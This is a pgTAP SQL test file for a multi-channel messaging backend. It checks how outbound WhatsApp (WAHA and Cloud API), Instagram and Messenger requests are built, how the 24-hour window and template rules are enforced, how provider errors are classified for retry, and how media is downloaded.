-- Outbound channel traffic without the network: send_message writes the
-- provider request (URL, headers, body per provider and content type), the
-- WhatsApp 24-hour window, template validation and sync, the message.send
-- handler's outcomes (answers recorded with ventros.http_record_attempt as
-- the dispatcher would), the Graph and WAHA retry classification, and media
-- downloads.
BEGIN;
SELECT plan(106);

SELECT ventros.create_tenant('send_t', 'Send');
SET LOCAL ventros.tenant = 'send_t';

-- Answer a request as the dispatcher would: claim it (one attempt), then
-- record the outcome decided from the HTTP status like src/http_worker.c.
CREATE FUNCTION pg_temp.answer(req uuid, status integer, body text DEFAULT NULL, headers text DEFAULT NULL)
RETURNS text LANGUAGE plpgsql AS $$
DECLARE
    n integer;
BEGIN
    UPDATE ventros.http_requests SET status = 'in_flight', attempts = attempts + 1 WHERE id = req RETURNING attempts INTO n;
    RETURN ventros.http_record_attempt('send_t', req, n, status BETWEEN 200 AND 299,
                                       status IN (408, 425, 429) OR status >= 500, NULL, status, headers,
                                       convert_to(body, 'UTF8'), false,
                                       CASE WHEN status NOT BETWEEN 200 AND 299 THEN 'HTTP ' || status END);
END
$$;
CREATE FUNCTION pg_temp.req(message uuid) RETURNS ventros.http_requests LANGUAGE sql AS $$
    SELECT * FROM ventros.http_requests WHERE correlation_id = message AND purpose = 'message.send'
$$;
-- the reference a stored request holds instead of a channel's secret
CREATE FUNCTION pg_temp.ref(channel uuid, key text) RETURNS text LANGUAGE sql AS $$
    SELECT '{channel_secret:' || channel || ':' || key || '}'
$$;
-- the headers the dispatcher sends for an attempt (the purpose's preparer)
CREATE FUNCTION pg_temp.sent(req uuid) RETURNS jsonb LANGUAGE sql AS $$
    SELECT ventros.http_attempt_headers(r) FROM ventros.http_requests r WHERE r.id = req
$$;
CREATE FUNCTION pg_temp.body(message uuid) RETURNS jsonb LANGUAGE sql AS $$
    SELECT convert_from(body, 'UTF8')::jsonb FROM ventros.http_requests WHERE correlation_id = message AND purpose = 'message.send'
$$;

SET LOCAL ROLE ventros_admin;
CREATE TEMP TABLE ch AS SELECT * FROM (VALUES
    ('waha', (ventros.create_channel('WAHA', 'waha', config => '{"base_url": "http://waha.test:3000/", "session": "acme-sales", "api_key": "k1"}')).id),
    ('waha_bare', (ventros.create_channel('WAHA bare', 'waha')).id),
    ('wa', (ventros.create_channel('Cloud', 'whatsapp', config => '{"phone_number_id": "106540352242922", "waba_id": "102290129340398", "access_token": "tok", "graph_base_url": "http://graph.test", "graph_version": "v23.0"}')).id),
    ('ig', (ventros.create_channel('IG', 'instagram', config => '{"ig_account_id": "17841400000000000", "access_token": "igtok", "graph_base_url": "http://graph.test"}')).id),
    ('fb', (ventros.create_channel('FB', 'messenger', config => '{"access_token": "pagetok", "graph_base_url": "http://graph.test"}')).id),
    ('tg', (ventros.create_channel('TG', 'telegram', config => '{"access_token": "x"}')).id)) v(k, id);
CREATE TEMP TABLE ag AS SELECT ventros_test.new_agent() AS id;
GRANT SELECT ON ch, ag TO PUBLIC;
CREATE FUNCTION pg_temp.ch(k text) RETURNS uuid LANGUAGE sql AS $$ SELECT id FROM ch WHERE ch.k = $1 $$;
CREATE FUNCTION pg_temp.ag() RETURNS uuid LANGUAGE sql AS $$ SELECT id FROM ag $$;

-- contacts, created by their first inbound message
CREATE TEMP TABLE inb AS SELECT * FROM (VALUES
    ('ana', (ventros.receive_message(pg_temp.ch('waha'), '5511999998888@c.us', 'Oi', channel_message_id => 'false_1')).id),
    ('lid', (ventros.receive_message(pg_temp.ch('waha'), '19104132006020@lid', 'Oi', channel_message_id => 'false_2')).id),
    ('sheena', (ventros.receive_message(pg_temp.ch('wa'), '16505551234', 'Does it come in blue?', channel_message_id => 'wamid.IN1')).id),
    ('old', (ventros.receive_message(pg_temp.ch('wa'), '16505550000', 'hello', channel_message_id => 'wamid.IN2',
                                     sent_at => now() - interval '25 hours')).id),
    ('igu', (ventros.receive_message(pg_temp.ch('ig'), '1234567890123456', 'Tem azul?', channel_message_id => 'ig.1')).id),
    ('fbu', (ventros.receive_message(pg_temp.ch('fb'), '6000000000000001', 'hello', channel_message_id => 'm_1')).id)) v(k, id);
GRANT SELECT ON inb TO PUBLIC;
CREATE FUNCTION pg_temp.who(k text) RETURNS uuid LANGUAGE sql AS $$
    SELECT m.contact_id FROM ventros.messages m WHERE m.id = (SELECT id FROM inb WHERE inb.k = $1)
$$;
CREATE FUNCTION pg_temp.inb(k text) RETURNS uuid LANGUAGE sql AS $$ SELECT id FROM inb WHERE inb.k = $1 $$;
RESET ROLE;

-- ---- WAHA ----------------------------------------------------------------------
SET LOCAL ROLE ventros_agent;
CREATE TEMP TABLE s1 AS SELECT * FROM ventros.send_message(pg_temp.ch('waha'), pg_temp.who('ana'), 'Olá!', pg_temp.ag());
RESET ROLE;
SELECT is((SELECT status FROM s1), 'queued', 'an agent''s reply is queued');
SELECT results_eq($$SELECT method, url, headers, status, retry_policy FROM pg_temp.req((SELECT id FROM s1))$$,
                  $$VALUES ('POST', 'http://waha.test:3000/api/sendText',
                            jsonb_build_object('Content-Type', 'application/json', 'X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')),
                            'pending', 'waha')$$,
                  'WAHA text: POST /api/sendText with X-Api-Key (a reference to the key on the row), in the same transaction (even for an agent)');
SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM s1))).id), '{"Content-Type": "application/json", "X-Api-Key": "k1"}',
          'the dispatcher sends the channel''s API key, put in for the attempt');
SELECT is(pg_temp.body((SELECT id FROM s1)),
          '{"session": "acme-sales", "chatId": "5511999998888@c.us", "text": "Olá!", "reply_to": null, "linkPreview": true}',
          'WAHA text body: session, chatId @c.us, text');
SELECT is((SELECT count(*)::int FROM ventros.http_requests WHERE correlation_id = (SELECT id FROM s1)), 1, 'one request per message');
SELECT is(ventros.queue_message_send((SELECT id FROM s1)), NULL, 'queueing it again does nothing');
SET LOCAL ROLE ventros_agent;
SELECT throws_ok($$SELECT count(*) FROM ventros.http_requests$$, '42501', NULL, 'the agent still cannot read requests');
RESET ROLE;

CREATE TEMP TABLE s2 AS SELECT * FROM ventros.send_message(pg_temp.ch('waha'), pg_temp.who('ana'), 'Nossa loja', pg_temp.ag(),
    content_type => 'image', media_url => 'https://files.example.com/foto.jpg', media_mimetype => 'image/jpeg',
    reply_to_id => pg_temp.inb('ana'));
SELECT is(pg_temp.body((SELECT id FROM s2)),
          '{"session": "acme-sales", "chatId": "5511999998888@c.us", "caption": "Nossa loja", "reply_to": "false_1",
            "file": {"mimetype": "image/jpeg", "filename": "foto.jpg", "url": "https://files.example.com/foto.jpg"}}',
          'WAHA image: file with mimetype, filename and url, caption, reply_to');
SELECT is((pg_temp.req((SELECT id FROM s2))).url, 'http://waha.test:3000/api/sendImage', 'WAHA image: /api/sendImage');
CREATE TEMP TABLE s3 AS SELECT * FROM ventros.send_message(pg_temp.ch('waha'), pg_temp.who('ana'), 'Orçamento', pg_temp.ag(),
    content_type => 'document', media_url => 'https://files.example.com/x/orcamento.pdf?sig=1', media_mimetype => 'application/pdf');
SELECT results_eq($$SELECT (pg_temp.req((SELECT id FROM s3))).url, pg_temp.body((SELECT id FROM s3))->'file'$$,
                  $$VALUES ('http://waha.test:3000/api/sendFile',
                            '{"mimetype": "application/pdf", "filename": "orcamento.pdf", "url": "https://files.example.com/x/orcamento.pdf?sig=1"}'::jsonb)$$,
                  'WAHA document: /api/sendFile, file name from the URL');
CREATE TEMP TABLE s4 AS SELECT * FROM ventros.send_message(pg_temp.ch('waha'), pg_temp.who('ana'), NULL, pg_temp.ag(),
    content_type => 'voice', media_url => 'https://files.example.com/nota.opus');
SELECT results_eq($$SELECT (pg_temp.req((SELECT id FROM s4))).url, pg_temp.body((SELECT id FROM s4))$$,
                  $$VALUES ('http://waha.test:3000/api/sendVoice',
                            '{"session": "acme-sales", "chatId": "5511999998888@c.us", "convert": true,
                              "file": {"mimetype": "audio/ogg; codecs=opus", "url": "https://files.example.com/nota.opus"}}'::jsonb)$$,
                  'WAHA voice: /api/sendVoice with convert');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('waha'), pg_temp.who('lid'), 'oi', pg_temp.ag())).id)->>'chatId',
          '19104132006020@lid', 'a contact known only by @lid is sent to its @lid');
SELECT ventros.add_contact_identity(pg_temp.who('lid'), 'whatsapp', '5511977776666@s.whatsapp.net');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('waha'), pg_temp.who('lid'), 'oi', pg_temp.ag())).id)->>'chatId',
          '5511977776666@c.us', 'once its number is known, @c.us is preferred');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, content_type => %L, media_url => %L)',
                        pg_temp.ch('waha'), pg_temp.who('ana'), pg_temp.ag(), 'location', 'https://x.example/l'),
                 '22023', 'WAHA channels do not send location messages', 'unsupported content types are refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('waha'), ventros_test.new_contact(), 'x', pg_temp.ag()),
                 '22023', NULL, 'a contact without WhatsApp id or phone cannot be sent to on WAHA');

-- not declared or not configured: queued, no request (as before)
CREATE TEMP TABLE s5 AS SELECT * FROM ventros.send_message(pg_temp.ch('waha_bare'), pg_temp.who('ana'), 'x', pg_temp.ag());
CREATE TEMP TABLE s6 AS SELECT * FROM ventros.send_message(pg_temp.ch('tg'), pg_temp.who('ana'), 'x', pg_temp.ag());
SELECT results_eq($$SELECT (SELECT status FROM s5), (SELECT status FROM s6),
                           (SELECT count(*)::int FROM ventros.http_requests WHERE correlation_id IN ((SELECT id FROM s5), (SELECT id FROM s6)))$$,
                  $$VALUES ('queued', 'queued', 0)$$,
                  'an unconfigured WAHA channel and an undeclared type queue the message without a request');

-- ---- WhatsApp Cloud ------------------------------------------------------------------
CREATE TEMP TABLE w1 AS SELECT * FROM ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), 'Yes, it comes in blue.', pg_temp.ag(),
                                                           reply_to_id => pg_temp.inb('sheena'));
SELECT results_eq($$SELECT method, url, headers, retry_policy FROM pg_temp.req((SELECT id FROM w1))$$,
                  $$VALUES ('POST', 'http://graph.test/v23.0/106540352242922/messages',
                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('wa'), 'access_token'),
                                               'Content-Type', 'application/json'), 'graph')$$,
                  'Cloud API: POST /<ver>/<phone_number_id>/messages with the Bearer token (a reference on the row), retry policy graph');
SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM w1))).id), '{"Authorization": "Bearer tok", "Content-Type": "application/json"}',
          'the dispatcher sends the channel''s token, put in for the attempt');
SELECT is(pg_temp.body((SELECT id FROM w1)),
          '{"messaging_product": "whatsapp", "recipient_type": "individual", "to": "16505551234", "type": "text",
            "text": {"preview_url": false, "body": "Yes, it comes in blue."}, "context": {"message_id": "wamid.IN1"}}',
          'Cloud API text body, with the reply context');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), 'Blue', pg_temp.ag(), content_type => 'image',
                                             media_url => 'https://files.example.com/blue.jpg')).id),
          '{"messaging_product": "whatsapp", "recipient_type": "individual", "to": "16505551234", "type": "image",
            "image": {"link": "https://files.example.com/blue.jpg", "caption": "Blue"}}', 'Cloud API image');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), 'Quote', pg_temp.ag(), content_type => 'document',
                                             media_url => 'https://files.example.com/orcamento.pdf')).id)->'document',
          '{"link": "https://files.example.com/orcamento.pdf", "filename": "orcamento.pdf", "caption": "Quote"}', 'Cloud API document');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), 'ignored', pg_temp.ag(), content_type => 'voice',
                                             media_url => 'https://files.example.com/a.ogg')).id) - 'to' - 'recipient_type',
          '{"messaging_product": "whatsapp", "type": "audio", "audio": {"link": "https://files.example.com/a.ogg"}}',
          'Cloud API voice goes as audio, without caption');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), NULL, pg_temp.ag(), content_type => 'video',
                                             media_url => 'https://files.example.com/v.mp4')).id)->'video',
          '{"link": "https://files.example.com/v.mp4"}', 'Cloud API video');

-- the 24-hour window
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('wa'), pg_temp.who('old'), 'hi again', pg_temp.ag()),
                 '22023', format('the 24-hour customer service window of contact %s on channel %s is closed', pg_temp.who('old'), pg_temp.ch('wa')),
                 'a free-form message 25 hours after the last inbound one is refused');
SELECT is(ventros_test.exec_capture(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('wa'), pg_temp.who('ana'), 'hi', pg_temp.ag())),
          'ERROR 22023: the 24-hour customer service window of contact ' || pg_temp.who('ana') || ' on channel ' || pg_temp.ch('wa') || ' is closed',
          'a contact who never wrote on the channel: refused too');
CREATE FUNCTION pg_temp.hint_of(sql text) RETURNS text LANGUAGE plpgsql AS $$
DECLARE h text;
BEGIN
    EXECUTE sql;
    RETURN NULL;
EXCEPTION WHEN OTHERS THEN
    GET STACKED DIAGNOSTICS h = PG_EXCEPTION_HINT;
    RETURN h;
END
$$;
SELECT matches(pg_temp.hint_of(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('wa'), pg_temp.who('old'), 'x', pg_temp.ag())),
               'template', 'the refusal''s hint says a template is needed');
SELECT is((SELECT count(*)::int FROM ventros.messages WHERE contact_id = pg_temp.who('old') AND from_me), 0, 'and nothing was written');
SELECT lives_ok(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('waha'), pg_temp.who('ana'), 'x', pg_temp.ag()),
                'WAHA channels have no window');

-- templates
SET LOCAL ROLE ventros_admin;
SELECT ventros.upsert_whatsapp_template(pg_temp.ch('wa'), 'order_update', 'pt_BR', 'APPROVED',
    '[{"type": "HEADER", "format": "IMAGE"},
      {"type": "BODY", "text": "Olá {{1}}, seu pedido {{2}} saiu para entrega. {{1}}, obrigado!"},
      {"type": "FOOTER", "text": "Acme"},
      {"type": "BUTTONS", "buttons": [{"type": "QUICK_REPLY", "text": "Parar"},
                                      {"type": "URL", "text": "Rastrear", "url": "https://acme.example/t/{{1}}"}]}]', 'UTILITY');
SELECT ventros.upsert_whatsapp_template(pg_temp.ch('wa'), 'hello_world', 'en_US', 'APPROVED',
    '[{"type": "BODY", "text": "Hello World"}]', 'UTILITY');
SELECT ventros.upsert_whatsapp_template(pg_temp.ch('wa'), 'promo', 'en_US', 'PENDING', '[{"type": "BODY", "text": "Promo"}]', 'MARKETING');
RESET ROLE;
SELECT is((SELECT count(*)::int FROM ventros.outbox WHERE event_type = 'whatsapp_template.created'), 3, 'templates are aggregates: whatsapp_template.created');
CREATE TEMP TABLE good AS SELECT '[{"type": "header", "parameters": [{"type": "image", "image": {"link": "https://files.example.com/p.jpg"}}]},
                                  {"type": "body", "parameters": [{"type": "text", "text": "Sheena"}, {"type": "text", "text": "#42"}]},
                                  {"type": "button", "sub_type": "url", "index": "1", "parameters": [{"type": "text", "text": "42"}]}]'::jsonb AS c;
CREATE TEMP TABLE t1 AS SELECT * FROM ventros.send_message(pg_temp.ch('wa'), pg_temp.who('old'), NULL, pg_temp.ag(),
    template_name => 'order_update', template_language => 'pt_BR', template_components => (SELECT c FROM good));
SELECT is((SELECT text FROM t1), 'Olá Sheena, seu pedido #42 saiu para entrega. Sheena, obrigado!',
          'a template is allowed outside the window; the message keeps its body with the variables filled in');
SELECT is(pg_temp.body((SELECT id FROM t1)),
          jsonb_build_object('messaging_product', 'whatsapp', 'recipient_type', 'individual', 'to', '16505550000', 'type', 'template',
                             'template', jsonb_build_object('name', 'order_update', 'language', '{"code": "pt_BR"}'::jsonb,
                                                           'components', (SELECT c FROM good))),
          'Cloud API template body: name, language code, components with header media, body and button variables');
SELECT is((SELECT metadata->'template'->>'name' FROM t1), 'order_update', 'the message records its template');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('old'), NULL, pg_temp.ag(), template_name => 'hello_world')).id)->'template',
          '{"name": "hello_world", "language": {"code": "en_US"}}', 'a template without variables; its only language is found');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L, template_language => %L, template_components => %L)',
                        pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'order_update', 'pt_BR',
                        jsonb_set((SELECT c FROM good), '{1,parameters}', '[{"type": "text", "text": "Sheena"}]')),
                 '22023', 'template order_update body expects 2 parameter(s), got 1', 'too few body variables are refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L, template_language => %L, template_components => %L)',
                        pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'order_update', 'pt_BR', (SELECT c FROM good) - 0),
                 '22023', 'template order_update header expects 1 parameter(s), got 0', 'a missing media header is refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L, template_language => %L, template_components => %L)',
                        pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'order_update', 'pt_BR', (SELECT c FROM good) - 2),
                 '22023', 'template order_update button 1 expects 1 parameter(s), got 0', 'a missing URL button variable is refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L, template_language => %L, template_components => %L)',
                        pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'order_update', 'pt_BR',
                        jsonb_set((SELECT c FROM good), '{0,parameters,0}', '{"type": "video", "video": {"link": "https://x.example/v.mp4"}}')),
                 '22023', 'template order_update header needs a image parameter with a link or id', 'a header of the wrong media type is refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L, template_components => %L)',
                        pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'hello_world', '[{"type": "body", "parameters": [{"type": "text", "text": "x"}]}]'),
                 '22023', 'template hello_world body expects 0 parameter(s), got 1', 'variables for a template without any are refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L)', pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'nope'),
                 'P0002', NULL, 'an unknown template is not found');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L)', pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'promo'),
                 '22023', 'WhatsApp template promo (en_US) is pending', 'a template not yet approved is refused');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L)', pg_temp.ch('waha'), pg_temp.who('ana'), pg_temp.ag(), 'hello_world'),
                 '22023', 'templates are sent on WhatsApp Cloud channels only', 'no templates on WAHA');
SELECT results_eq($$SELECT ventros.template_placeholders('Hi {{1}} and {{ 2 }}, {{1}} {{name}}')$$, $$VALUES ('{1,2,name}'::text[])$$,
                  'placeholders are counted once each');
SELECT ventros.upsert_whatsapp_template(pg_temp.ch('wa'), 'hello_world', 'pt_BR', 'APPROVED', '[{"type": "BODY", "text": "Olá"}]');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, NULL, %L, template_name => %L)', pg_temp.ch('wa'), pg_temp.who('old'), pg_temp.ag(), 'hello_world'),
                 '22023', 'WhatsApp template hello_world exists in 2 languages', 'a name in several languages needs template_language');
SELECT is(pg_temp.body((ventros.send_message(pg_temp.ch('wa'), pg_temp.who('old'), NULL, pg_temp.ag(), template_name => 'hello_world',
                                             template_language => 'pt_BR')).id)->'template'->'language',
          '{"code": "pt_BR"}', 'with the language it is found');

-- ---- Instagram and Messenger -----------------------------------------------------------
CREATE TEMP TABLE i1 AS SELECT * FROM ventros.send_message(pg_temp.ch('ig'), pg_temp.who('igu'), 'Temos sim!', pg_temp.ag());
SELECT results_eq($$SELECT url, headers, pg_temp.body((SELECT id FROM i1)) FROM pg_temp.req((SELECT id FROM i1))$$,
                  $$VALUES ('http://graph.test/v23.0/17841400000000000/messages',
                            jsonb_build_object('Authorization', 'Bearer ' || pg_temp.ref(pg_temp.ch('ig'), 'access_token'),
                                               'Content-Type', 'application/json'),
                            '{"recipient": {"id": "1234567890123456"}, "messaging_type": "RESPONSE", "message": {"text": "Temos sim!"}}'::jsonb)$$,
                  'Instagram text: /<ver>/<ig_account_id>/messages, recipient IGSID');
SELECT is(pg_temp.sent((pg_temp.req((SELECT id FROM i1))).id)->>'Authorization', 'Bearer igtok', 'sent with the Instagram token');
CREATE TEMP TABLE f1 AS SELECT * FROM ventros.send_message(pg_temp.ch('fb'), pg_temp.who('fbu'), 'ignored caption', pg_temp.ag(),
                                                           content_type => 'document', media_url => 'https://files.example.com/a.pdf');
SELECT results_eq($$SELECT url, pg_temp.body((SELECT id FROM f1)) FROM pg_temp.req((SELECT id FROM f1))$$,
                  $$VALUES ('http://graph.test/v23.0/me/messages',
                            '{"recipient": {"id": "6000000000000001"}, "messaging_type": "RESPONSE",
                              "message": {"attachment": {"type": "file", "payload": {"url": "https://files.example.com/a.pdf", "is_reusable": true}}}}'::jsonb)$$,
                  'Messenger without page_id: /<ver>/me/messages, a document as a file attachment, recipient PSID');
SELECT throws_ok(format('SELECT ventros.send_message(%L, %L, %L, %L)', pg_temp.ch('fb'), pg_temp.who('igu'), 'x', pg_temp.ag()),
                 '22023', NULL, 'a contact without a PSID cannot be sent to on Messenger');

-- ---- the message.send handler ---------------------------------------------------------
SELECT is(pg_temp.answer((pg_temp.req((SELECT id FROM s1))).id, 201,
                         '{"id": "true_5511999998888@c.us_3EB0378E606CA43FEF38D2", "fromMe": true, "ack": 1}'), 'succeeded',
          'WAHA answered 201');
SELECT results_eq($$SELECT status, channel_message_id, sent_at IS NOT NULL FROM ventros.messages WHERE id = (SELECT id FROM s1)$$,
                  $$VALUES ('sent', 'true_5511999998888@c.us_3EB0378E606CA43FEF38D2', true)$$,
                  'the message is sent with WAHA''s id');
SELECT is(ventros_test.events_of((SELECT id FROM s1)), '{message.created,message.sent}', 'message.sent emitted');
SELECT is((pg_temp.req((SELECT id FROM s1))).handler_error, NULL, 'the handler ran cleanly');
SELECT pg_temp.answer((pg_temp.req((SELECT id FROM s2))).id, 201,
                      '{"key": {"remoteJid": "5511999998888@s.whatsapp.net", "fromMe": true, "id": "BAE5F2A1C3D4"}, "status": "PENDING"}');
SELECT is((SELECT channel_message_id FROM ventros.messages WHERE id = (SELECT id FROM s2)), 'BAE5F2A1C3D4', 'NOWEB''s key.id is the provider id');
SELECT pg_temp.answer((pg_temp.req((SELECT id FROM s3))).id, 201, '');
SELECT results_eq($$SELECT status, channel_message_id FROM ventros.messages WHERE id = (SELECT id FROM s3)$$,
                  $$VALUES ('sent', NULL::text)$$, 'an empty 201 means sent with the provider id unknown');
SELECT is(pg_temp.answer((pg_temp.req((SELECT id FROM s4))).id, 422,
                         '{"error": "Session status is not as expected. Try again later or restart the session", "session": "acme-sales", "status": "SCAN_QR_CODE", "expected": ["WORKING"]}'),
          'pending', 'WAHA 422 (session not working) is retried');
SELECT is((SELECT status FROM ventros.messages WHERE id = (SELECT id FROM s4)), 'queued', 'the message waits, queued');
SELECT is(pg_temp.answer((pg_temp.req((SELECT id FROM s4))).id, 401, '{"statusCode": 401, "message": "Unauthorized"}'), 'failed',
          'WAHA 401 is final');
SELECT results_eq($$SELECT status, error FROM ventros.messages WHERE id = (SELECT id FROM s4)$$,
                  $$VALUES ('failed', 'HTTP 401: Unauthorized')$$, 'the message failed with WAHA''s message');
SELECT is(ventros_test.events_of((SELECT id FROM s4)), '{message.created,message.failed}', 'message.failed emitted');
SELECT results_eq($$SELECT last_error, last_error_at IS NOT NULL FROM ventros.channels WHERE id = pg_temp.ch('waha')$$,
                  $$VALUES ('HTTP 401: Unauthorized', true)$$, 'a wrong API key is kept on the channel too');

SELECT is(pg_temp.answer((pg_temp.req((SELECT id FROM w1))).id, 200,
                         '{"messaging_product": "whatsapp", "contacts": [{"input": "16505551234", "wa_id": "16505551234"}], "messages": [{"id": "wamid.OUT1", "message_status": "accepted"}]}'),
          'succeeded', 'the Cloud API answered 200');
SELECT results_eq($$SELECT status, channel_message_id FROM ventros.messages WHERE id = (SELECT id FROM w1)$$,
                  $$VALUES ('sent', 'wamid.OUT1')$$, 'the message is sent with messages[0].id');
SELECT lives_ok($$SELECT ventros.confirm_message_status('delivered', channel_id => pg_temp.ch('wa'), channel_message_id => 'wamid.OUT1')$$,
                'a status webhook finds it by the wamid');

CREATE TEMP TABLE g AS SELECT (ventros.send_message(pg_temp.ch('wa'), pg_temp.who('sheena'), 'm' || i, pg_temp.ag())).id, i
    FROM generate_series(1, 8) i;
CREATE FUNCTION pg_temp.graph(i integer, status integer, code integer, subcode integer DEFAULT NULL) RETURNS text LANGUAGE sql AS $$
    SELECT pg_temp.answer((pg_temp.req((SELECT id FROM g WHERE g.i = $1))).id, status,
                          jsonb_build_object('error', jsonb_strip_nulls(jsonb_build_object(
                              'message', '(#' || code || ') error ' || code, 'type', 'OAuthException', 'code', code,
                              'error_subcode', subcode, 'fbtrace_id', 'Ab1')))::text)
$$;
SELECT is(pg_temp.graph(1, 400, 131047, 2494010), 'failed', 'Graph 131047 (window closed) is final at once');
SELECT results_eq($$SELECT m.status, m.error, r.attempts FROM ventros.messages m, pg_temp.req(m.id) r WHERE m.id = (SELECT id FROM g WHERE i = 1)$$,
                  $$VALUES ('failed', 'Graph error 131047/2494010: (#131047) error 131047', 1)$$,
                  'the message failed with the Graph code and message, after one attempt');
SELECT is(pg_temp.graph(2, 400, 130429), 'pending', 'Graph 130429 (throughput) is retried though the status is 400');
SELECT is(pg_temp.graph(3, 400, 131056), 'pending', 'Graph 131056 (pair rate limit) is retried');
SELECT is(pg_temp.graph(4, 400, 613), 'pending', 'Graph 613 is retried');
SELECT is(pg_temp.graph(5, 500, 2), 'pending', 'Graph code 2 with 500 is retried');
SELECT is(pg_temp.graph(6, 400, 10, 2018278), 'failed', 'Graph 10/2018278 (outside the Messenger window) is final');
SELECT is(pg_temp.graph(7, 400, 100, 2018001), 'failed', 'Graph 100/2018001 (no matching user) is final');
SELECT is((SELECT last_error FROM ventros.channels WHERE id = pg_temp.ch('wa')), NULL,
          'per-message errors (131047, 10/2018278, 100/2018001) leave the channel alone');
SELECT is(pg_temp.graph(8, 401, 190), 'failed', 'Graph 190 (token) is final');
SELECT is((SELECT last_error FROM ventros.channels WHERE id = pg_temp.ch('wa')), 'Graph error 190: (#190) error 190',
          'a token error is kept on the channel');
SELECT is((SELECT status FROM ventros.messages WHERE id = (SELECT id FROM g WHERE i = 2)), 'queued', 'a throttled message stays queued');
-- dead after the last attempt
UPDATE ventros.http_requests SET max_attempts = 2 WHERE id = (pg_temp.req((SELECT id FROM g WHERE i = 5))).id;
SELECT is(pg_temp.graph(5, 500, 2), 'dead', 'the last allowed attempt fails: dead');
SELECT results_eq($$SELECT status, error FROM ventros.messages WHERE id = (SELECT id FROM g WHERE i = 5)$$,
                  $$VALUES ('failed', 'Graph error 2: (#2) error 2')$$, 'a dead request fails its message');
SELECT is(pg_temp.answer((pg_temp.req((SELECT id FROM i1))).id, 200, '{"recipient_id": "1234567890123456", "message_id": "aWdfZAG1"}'),
          'succeeded', 'Instagram answered');
SELECT is((SELECT channel_message_id FROM ventros.messages WHERE id = (SELECT id FROM i1)), 'aWdfZAG1', 'Instagram''s message_id is the provider id');
-- the classifier alone
SELECT results_eq($$SELECT ventros.classify_graph_answer(400, convert_to('{"error":{"code":80007}}', 'UTF8'), false),
                           ventros.classify_graph_answer(503, convert_to('not json', 'UTF8'), true),
                           ventros.classify_graph_answer(400, NULL, false),
                           ventros.classify_graph_answer(500, convert_to('{"error":{"code":131026}}', 'UTF8'), true)$$,
                  $$VALUES (true, true, false, false)$$,
                  'classifier: by error code first, else the dispatcher''s verdict by status');
SELECT throws_ok($$SELECT ventros.enqueue_http_request('https://example.com/', retry_policy => 'nope')$$, '22023', NULL,
                 'an undeclared retry policy is refused');

-- ---- media --------------------------------------------------------------------------
CREATE TEMP TABLE mi AS SELECT * FROM ventros.receive_message(pg_temp.ch('waha'), '5511999998888@c.us', 'segue a foto', 'image', 'false_img',
    media_url => 'http://waha.test:3000/api/files/acme-sales/AC94.jpeg', media_mimetype => 'image/jpeg');
GRANT SELECT ON mi TO PUBLIC;
SET LOCAL ROLE ventros_agent;
CREATE TEMP TABLE md AS SELECT ventros.request_media_download((SELECT id FROM mi)) AS id;
RESET ROLE;
SELECT results_eq($$SELECT method, url, headers, purpose, body, max_response_size FROM ventros.http_requests WHERE id = (SELECT id FROM md)$$,
                  $$VALUES ('GET', 'http://waha.test:3000/api/files/acme-sales/AC94.jpeg',
                            jsonb_build_object('X-Api-Key', pg_temp.ref(pg_temp.ch('waha'), 'api_key')),
                            'media.download', NULL::bytea, ventros.setting_number('ventros.media_max_size')::integer)$$,
                  'WAHA media: GET its URL on the WAHA host with X-Api-Key (a reference on the row), allowed ventros.media_max_size bytes');
SELECT is(pg_temp.sent((SELECT id FROM md)), '{"X-Api-Key": "k1"}', 'sent with the API key');
SELECT pg_temp.answer((SELECT id FROM md), 200, 'JPEGBYTES', E'Content-Type: image/jpeg\r\nContent-Length: 9');
SELECT results_eq($$SELECT content_type, size, sha256, data FROM ventros.message_media WHERE message_id = (SELECT id FROM mi)$$,
                  $$VALUES ('image/jpeg', 9::bigint, encode(sha256('JPEGBYTES'), 'hex'), 'JPEGBYTES'::bytea)$$,
                  'the bytes are stored with content type, size and sha256');
SELECT is((SELECT metadata->'media_download'->>'status' FROM ventros.messages WHERE id = (SELECT id FROM mi)), 'downloaded',
          'the message says its media is downloaded');
